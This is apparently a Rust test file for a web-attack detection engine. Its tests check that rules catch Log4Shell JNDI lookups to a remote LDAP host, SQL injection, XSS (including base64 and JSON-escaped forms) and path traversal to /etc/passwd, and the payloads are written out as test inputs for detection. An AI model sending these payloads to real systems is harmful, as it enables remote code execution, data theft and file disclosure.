use super::*;

fn matched(http: Http<'_>) -> Vec<String> {
    let rules = Ruleset::new(&[], &[]).unwrap();
    let event = Event::of(crate::event::Kind::Http(http));
    let (mut scratch, mut hits) = (Scratch::new(), vec![]);
    rules.examine(&event, &mut scratch, &mut hits);
    hits.iter().map(|hit| rules.rules[usize::from(hit.rule)].id.to_string()).collect()
}

#[test]
fn a_rule_counts_once_a_line_wherever_it_matches() {
    let jndi = b"/?x=${jndi:ldap://198.51.100.1/a}";
    let once = matched(Http { method: b"GET", uri: jndi, ..Http::default() });
    let twice =
        matched(Http { method: b"GET", uri: jndi, user_agent: &jndi[4..], referer: &jndi[4..], ..Http::default() });
    let count = |ids: &[String]| ids.iter().filter(|id| *id == "rce-log4shell").count();
    assert_eq!((count(&once), count(&twice)), (1, 1), "{twice:?}");
}

#[test]
fn what_is_split_by_spaces_or_comments_is_found() {
    for uri in ["/?q=1 union   select 2", "/?q=1+union+++select+2", "/?q=1/*x*/union/*y*/select/**/2"] {
        let ids = matched(Http { method: b"GET", uri: uri.as_bytes(), ..Http::default() });
        assert!(ids.iter().any(|id| id == "sqli-union-select"), "{uri}: {ids:?}");
    }
}

#[test]
fn what_one_rule_passes_once_is_looked_at_again_where_it_may_match() {
    let rule = "[[rule]]\nid = 'x'\ncategory = 'sqli'\nscore = 5\ndescription = 'd'\nreference = 'r'\ntarget = ['args', 'user_agent']\npattern = 'select [7]'\nattack = ['/']\nbenign = ['/']\n";
    let with_method = rule.replace("'x'", "'y'").replace("select", "update") + "methods = ['POST']\n";
    let rules = Ruleset::of(rules::load("x", &(rule.to_owned() + &with_method), Trust::Foreign).unwrap()).unwrap();
    let mut scratch = Scratch::new();
    let mut hits_of = |method: &'static str, uri: &str, agent: &str| {
        let (method, uri, user_agent) = (method.as_bytes(), uri.as_bytes(), agent.as_bytes());
        let event = Event::of(crate::event::Kind::Http(Http { method, uri, user_agent, ..Http::default() }));
        let mut hits = vec![];
        rules.examine(&event, &mut scratch, &mut hits);
        hits.len()
    };
    for (method, uri, agent, expected) in [
        ("GET", "/?a=select 3", "select 3", 0),
        ("GET", "/?a=select 3", "select 3", 0),
        ("GET", "/?a=select 0", "select 0", 0),
        ("GET", "/?a=select 7", "select 7", 1),
        ("GET", "/?a=select 3", "select 7", 1),
        ("GET", "/?a=select 7", "select 3", 1),
        ("GET", "/?b=select 3&c=1", "", 0),
        ("GET", "/?b=select 7&c=1", "", 1),
        ("GET", "/?a=update 7", "", 0),
        ("POST", "/?a=update 7", "", 1),
    ] {
        assert_eq!(hits_of(method, uri, agent), expected, "{method} {uri} {agent}");
    }
}

#[test]
fn what_is_remembered_is_what_a_fresh_look_finds() {
    let rules = Ruleset::new(&[], &[]).unwrap();
    let mut remembering = Scratch::new();
    let examples = rules.rules.iter().flat_map(|rule| rule.spec.attack.iter().chain(&rule.spec.benign));
    let requests: Vec<_> = examples.map(rules::Example::request).filter(|one| one.uri.is_some()).collect();
    let mut found = 0;
    for digit in ["", "0", "7"] {
        for request in &requests {
            // Also with other digits, which are of one shape.
            let digits = |text: &Option<String>| {
                let text = text.clone().unwrap_or_default();
                if digit.is_empty() { text } else { text.replace(|c: char| c.is_ascii_digit(), digit) }
            };
            let texts = [&request.method, &request.uri, &request.user_agent, &request.referer].map(digits);
            let [method, uri, user_agent, referer] = texts.each_ref().map(|text| text.as_bytes());
            let http = Http { method, uri, user_agent, referer, status: request.status, ..Http::default() };
            let event = Event::of(crate::event::Kind::Http(http));
            let look = |scratch: &mut Scratch| {
                let mut hits = vec![];
                rules.examine(&event, scratch, &mut hits);
                hits
            };
            let fresh = look(&mut Scratch::new());
            for _ in 0..2 {
                assert_eq!(look(&mut remembering), fresh, "{texts:?}");
            }
            found += fresh.len();
        }
    }
    assert!(found > 3000, "{found}");
}

#[test]
fn what_base64_hides_is_found_whatever_its_digits() {
    let rule = "[[rule]]\nid = 'x'\ncategory = 'xss'\nscore = 5\ndescription = 'd'\nreference = 'r'\ntarget = ['args']\npattern = 'onload=x'\nattack = ['/']\nbenign = ['/']\n";
    let rules = Ruleset::of(rules::load("x", rule, Trust::Foreign).unwrap()).unwrap();
    let mut scratch = Scratch::new();
    // `<svg onload<x()>` and `<svg onload=x()>`, of one shape.
    for (uri, expected) in [("/?q=PHN2ZyBvbmxvYWQ8eCgpPg==", 0), ("/?q=PHN2ZyBvbmxvYWQ9eCgpPg==", 1)] {
        let event = Event::of(crate::event::Kind::Http(Http { uri: uri.as_bytes(), ..Http::default() }));
        let mut hits = vec![];
        rules.examine(&event, &mut scratch, &mut hits);
        assert_eq!(hits.len(), expected, "{uri}");
    }
}

#[test]
fn what_json_escapes_is_found() {
    for (uri, rule) in [
        (r"/?q=\u003cscript\u003ealert(1)\u003c\/script\u003e", "xss"),
        (r"/?a=1\u0026id=1\u0027 OR 1=1", "sqli"),
        (r"/?a\u003d1\u0026id\u003d1\u0027\u002bunion\u002bselect\u002b2", "sqli-union-select"),
        (r"/?id=1\n\tunion\n\tselect 2", "sqli-union-select"),
        (r"\/..\/..\/..\/etc\/passwd", "traversal"),
    ] {
        let ids = matched(Http { method: b"GET", uri: uri.as_bytes(), ..Http::default() });
        assert!(ids.iter().any(|id| id.contains(rule)), "{uri}: {ids:?}");
        let agent = matched(Http { method: b"GET", uri: b"/", user_agent: uri.as_bytes(), ..Http::default() });
        assert!(rule != "xss" || !agent.is_empty(), "{uri} as user agent");
    }
    let plain = Http {
        method: b"GET",
        uri: br"/a\/b?c=\u00e9\u0026d=e",
        user_agent: br#"A \"b\" \ud83d\ude00"#,
        ..Http::default()
    };
    assert!(matched(plain).is_empty());
}
